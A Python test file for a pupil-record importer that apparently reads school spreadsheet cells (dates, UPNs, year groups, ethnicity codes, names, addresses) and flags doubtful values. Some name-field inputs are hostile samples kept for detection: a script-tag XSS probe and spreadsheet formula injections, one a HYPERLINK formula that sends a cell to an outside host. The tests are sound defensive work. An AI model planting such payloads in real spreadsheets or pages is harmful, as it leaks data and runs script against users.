"""Is each cell read as its writer meant it, and is a doubt said aloud?"""

from datetime import date

import pytest
from hypothesis import given
from hypothesis import strategies as st

from children.importing import values
from children.importing.date_orders import order_of
from children.importing.problems import Severity
from children.importing.values import Notes

TODAY = date(2026, 11, 20)
born = values.dates(born=True, today=TODAY)


def read(reader, text):
    """The value, and (severity, code) of whatever was said about it."""
    notes = Notes()
    value = reader(values.clean(text), notes)
    return value, [(p.severity, p.code) for p in notes.problems]


@pytest.mark.parametrize(
    "text",
    ["12/03/2018", "12-3-2018", "12.03.2018", "2018-03-12", "2018-03-12T00:00:00", "12 Mar 2018", "12th March 2018"],
)
def test_a_date_in_any_product_s_writing(text):
    assert read(born, text) == ("2018-03-12", [])


@pytest.mark.parametrize(
    ("text", "code"),
    [
        ("08/31/2019", "impossible_date"),
        ("30/02/2019", "impossible_date"),
        ("2019-02-30T00:00:00", "impossible_date"),
        ("31 Jun 2019", "impossible_date"),
        ("last spring", "no_date"),
        ("09/05/2031", "future_birth"),
    ],
)
def test_a_date_of_birth_that_cannot_be_rejects_its_row(text, code):
    assert read(born, text) == (None, [(Severity.REJECT, code)])


@pytest.mark.parametrize(
    ("text", "day", "code"), [("43512", "2019-02-16", "serial_date"), ("07/03/19", "2019-03-07", "short_year")]
)
def test_a_date_of_birth_that_can_be_doubted_is_asked_about(text, day, code):
    assert read(born, text) == (day, [(Severity.ASK, code)])


def test_an_unlikely_age_is_remarked_on():
    assert read(born, "12/03/1975") == ("1975-03-12", [(Severity.WARN, "unlikely_birth")])


def test_a_school_may_write_the_month_first():
    assert read(values.dates(month_first=True), "03/12/2018") == ("2018-03-12", [])


@given(st.dates(date(2008, 1, 1), date(2025, 1, 1)))
def test_every_day_is_read_back(day):
    for written in (f"{day:%d/%m/%Y}", f"{day:%d %b %Y}", day.isoformat()):
        assert read(born, written)[0] == day.isoformat()


@given(st.text(max_size=80))
def test_cleaning_is_settled_at_once_and_keeps_words(text):
    once = values.clean(text)
    assert values.clean(once) == once
    assert once == once.strip()


@pytest.mark.parametrize(
    ("text", "cleaned"),
    [
        ("  Brannigan ", "Brannigan"),
        ("Rory\xa0\u200b", "Rory"),
        ("Jo\u200bhn", "John"),
        ("Zoe\u0308", "Zoë"),
        ("a\x00b", "ab"),
    ],
)
def test_what_is_not_seen_is_taken_out(text, cleaned):
    assert values.clean(text) == cleaned


def test_the_lines_of_an_address_stay():
    assert values.clean("12 Snipe Street \r\n Hollowmoss", lines=True) == "12 Snipe Street\nHollowmoss"


@pytest.mark.parametrize(
    ("text", "number"),
    [
        ("r356999922025", "R356999922025"),
        (" C3569 99926001 ", "C356999926001"),
        ("Ｃ35699992600１", "C356999926001"),
        ("", None),
    ],
)
def test_a_upn_in_capitals_without_spaces(text, number):
    assert read(values.pupil_number, text) == (number, [])


@pytest.mark.parametrize("text", ["L356999921025", "12345", "Number of pupils: 420", "C٣56999926001"])
def test_a_upn_that_cannot_be_right_waits(text):
    assert read(values.pupil_number, text) == (None, [(Severity.HOLD, "bad_upn")])


def test_the_remedy_names_the_letter_that_would_be_right():
    notes = Notes()
    values.pupil_number("L356999921025", notes)
    assert "its first letter would be F" in notes.problems[0].message


@pytest.mark.parametrize(
    ("text", "sex"), [("Female", "F"), ("m", "M"), ("2", "F"), ("1", "M"), ("9", "U"), ("0", "U"), ("", None)]
)
def test_sex(text, sex):
    assert read(values.sex, text) == (sex, [])


def test_another_word_for_sex_is_not_known_and_remarked_on():
    assert read(values.sex, "Indeterminate") == ("U", [(Severity.WARN, "unknown_sex")])


@pytest.mark.parametrize(
    ("text", "year"),
    [
        ("Reception", 0),
        ("R", 0),
        ("Year 5", 5),
        ("5", 5),
        ("Y5", 5),
        ("NCY 5", 5),
        ("Nursery", -1),
        ("N1", -2),
        ("Year 14", 14),
    ],
)
def test_year_groups(text, year):
    assert read(values.year_group, text) == (year, [])


@pytest.mark.parametrize("text", ["Year 15", "Owls", "5A"])
def test_what_is_no_year_group_is_left_out(text):
    assert read(values.year_group, text) == (None, [(Severity.WARN, "unknown_year")])


@pytest.mark.parametrize(
    ("kind", "text", "code"),
    [
        ("ethnicity", "White - British", "WBRI"),
        ("ethnicity", "Gypsy / Roma", "WROM"),
        ("ethnicity", "WBRI", "WBRI"),
        ("ethnicity", "Information Not Yet Obtained", "NOBT"),
        ("language", "Urd", "URD"),
        ("language", "Urdu", "URD"),
        ("sen", "SEN Support (K)", "K"),
        ("sen", "Education, Health and Care Plan", "E"),
        ("sen", "No Special Educational Need", "N"),
    ],
)
def test_words_become_codes(kind, text, code):
    assert read(values.coded(kind), text) == (code, [])


def test_a_word_without_a_code_is_left_out():
    assert read(values.coded("ethnicity"), "Martian") == (None, [(Severity.WARN, "unknown_ethnicity")])


@pytest.mark.parametrize(
    ("text", "before"),
    [("ZoÃ«", "Zoë"), ("FranÃ§oise", "Françoise"), ("Zoë", ""), ("Ångström", ""), ("Anne", ""), ("Țurcanu", "")],
)
def test_what_was_encoded_twice(text, before):
    assert values.double_encoded(text) == before


def test_a_name_keeps_markup_as_text_and_says_so():
    assert read(values.name, "<script>alert(1)</script>") == ("<script>alert(1)</script>", [(Severity.WARN, "markup")])


def test_a_name_of_which_no_letter_is_left_is_left_out():
    assert read(values.name, "????") == (None, [(Severity.WARN, "lost_letters")])


@pytest.mark.parametrize(
    ("text", "parts"),
    [
        ("Mrs Salma Abu Zaid", ("Mrs", "Salma", "Abu Zaid")),
        ("Rania Haddad", ("", "Rania", "Haddad")),
        ("Haddad", ("", None, "Haddad")),
    ],
)
def test_an_adult_s_name(text, parts):
    person = values.person(text)
    assert (person["title"], person.get("forename"), person["surname"]) == parts


@pytest.mark.parametrize(
    ("line", "parts"),
    [
        ("92 Snipe Street, Hollowmoss, Greater Manchester", ("92 Snipe Street", "Hollowmoss", "Greater Manchester")),
        ("Flat 6, 7 Ten Acre Drive", ("Flat 6, 7 Ten Acre Drive", "", "")),
        ("92 Snipe Street", ("92 Snipe Street", "", "")),
    ],
)
def test_one_long_line_becomes_an_address(line, parts):
    found = values.address(line, postcode="sk99 9rn")
    assert (found["address"], found["town"], found["county"]) == parts
    assert found["postcode"] == "SK99 9RN"


@pytest.mark.parametrize(
    ("text", "code"),
    [
        ('=HYPERLINK("http://example.org/?"&A1,"click")', "formula"),
        ("+1+1", "formula"),
        ("-2+3", "formula"),
        ("@SUM(A1)", "formula"),
        ('<a href="?">Rowan</a>', "markup"),
        ("Zo?", "lost_letters"),
    ],
)
def test_what_is_wrong_with_a_name_is_called_by_its_own_name(text, code):
    assert read(values.name, text) == (text, [(Severity.WARN, code)])


@pytest.mark.parametrize(("text", "order"), [("31/03/2018", "day"), ("03/31/2018", "month"), ("3.4.18", ""), ("", "")])
def test_in_which_order_a_date_can_be_read(text, order):
    assert order_of(text) == order
